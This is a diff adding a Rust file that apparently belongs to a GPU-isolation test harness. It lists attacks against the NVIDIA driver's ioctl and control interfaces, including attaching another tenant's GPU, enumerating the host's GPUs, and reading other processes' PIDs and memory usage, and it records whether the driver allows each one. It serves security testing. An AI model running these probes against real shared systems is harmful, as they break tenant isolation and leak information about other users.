@@ -1,0 +1,133 @@
+// SPDX-License-Identifier: GPL-2.0
+//! What the driver tells everybody of all GPUs and processes (nvidia-protocol 6.2, the last two rows).
+
+use super::scene::Attacker;
+use super::{attack, Attack, Driver, Sign, Told};
+use crate::bytes::{put_u32, u32_at, u64_at};
+use crate::guest::rm;
+use crate::layout;
+use crate::sys;
+
+pub(super) const ATTACKS: &[Attack] = &[
+    attack(
+        "another's GPU opened (ATTACH_GPUS_TO_FD)",
+        "nv.c:nvidia_ioctl",
+        Driver::Passes,
+        Sign::Told,
+        attach_escape,
+    ),
+    attack(
+        "another's GPU attached (0x215)",
+        "client_resource.c:cliresCtrlCmdGpuAttachIds_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        attach_control,
+    ),
+    attack(
+        "a device on another's GPU",
+        "nv.c:nv_is_gpu_accessible",
+        Driver::Refuses,
+        Sign::Told,
+        device,
+    ),
+    attack(
+        "the host's other GPUs (CARD_INFO)",
+        "nv.c:nvidia_read_card_info",
+        Driver::Passes,
+        Sign::Told,
+        cards,
+    ),
+    attack(
+        "the host's other GPUs (GET_ATTACHED_IDS)",
+        "client_resource.c:cliresCtrlCmdGpuGetAttachedIds_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        attached,
+    ),
+    attack(
+        "what another's GPU is (GET_ID_INFO_V2)",
+        "client_resource.c:cliresCtrlCmdGpuGetIdInfoV2_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        id_info,
+    ),
+    attack(
+        "another's processes (GPU_GET_PIDS)",
+        "subdevice_ctrl_gpu_kernel.c:subdeviceCtrlCmdGpuGetPids_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        pids,
+    ),
+    attack(
+        "what another's process holds (GPU_GET_PID_INFO)",
+        "subdevice_ctrl_gpu_kernel.c:subdeviceCtrlCmdGpuGetPidInfo_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        pid_info,
+    ),
+];
+
+fn found(what: bool) -> Told {
+    if what {
+        Ok(())
+    } else {
+        Err("not in the answer".to_owned())
+    }
+}
+
+fn attach_escape(a: &Attacker) -> Told {
+    let mut id = a.victim.gpus.other.0.to_le_bytes();
+    let request = 3 << 30 | 4 << 16 | layout::NV_TYPE << 8 | 212;
+    let attached = sys::ioctl(a.client.ctl, request, &mut id);
+    attached.map(drop).map_err(|e| format!("errno {e}"))
+}
+
+fn attach_control(a: &Attacker) -> Told {
+    let mut params = [0; 132];
+    put_u32(&mut params, 0, a.victim.gpus.other.0);
+    put_u32(&mut params, 4, u32::MAX);
+    a.control(a.client.handle, 0x215, &mut params)
+}
+
+fn device(a: &Attacker) -> Told {
+    let mut params = [0; 56];
+    put_u32(&mut params, 0, a.victim.gpus.other.1);
+    a.alloc(a.client.handle, super::scene::OWN, rm::DEVICE, &mut params)
+}
+
+fn cards(a: &Attacker) -> Told {
+    let mut cards = [0; 72 * 32];
+    let size = u32::try_from(cards.len()).unwrap_or(0);
+    let request = 3 << 30 | size << 16 | layout::NV_TYPE << 8 | 200;
+    sys::ioctl(a.client.ctl, request, &mut cards).map_err(|e| format!("errno {e}"))?;
+    found((0..32).any(|card| u32_at(&cards, card * 72 + 16) == a.victim.gpus.other.0))
+}
+
+fn attached(a: &Attacker) -> Told {
+    let mut ids = [0; 128];
+    a.control(a.client.handle, 0x201, &mut ids)?;
+    found((0..32).any(|id| u32_at(&ids, id * 4) == a.victim.gpus.other.0))
+}
+
+fn id_info(a: &Attacker) -> Told {
+    let mut info = [0; 32];
+    put_u32(&mut info, 0, a.victim.gpus.other.0);
+    a.control(a.client.handle, 0x205, &mut info)
+}
+
+fn pids(a: &Attacker) -> Told {
+    let mut params = vec![0; 3812];
+    put_u32(&mut params, 4, rm::DEVICE);
+    a.control(rm::SUBDEVICE_HANDLE, 0x2080_018d, &mut params)?;
+    let count = usize::try_from(u32_at(&params, 8)).unwrap_or(0).min(950);
+    found((0..count).any(|i| u32_at(&params, 12 + 4 * i) == a.victim.process))
+}
+
+fn pid_info(a: &Attacker) -> Told {
+    let mut params = vec![0; 14408];
+    put_u32(&mut params, 0, 1);
+    put_u32(&mut params, 8, a.victim.process);
+    a.control(rm::SUBDEVICE_HANDLE, 0x2080_018e, &mut params)?;
+    // Private and shared bytes.
+    found((0..3).any(|i| u64_at(&params, 24 + 8 * i) != 0))
+}
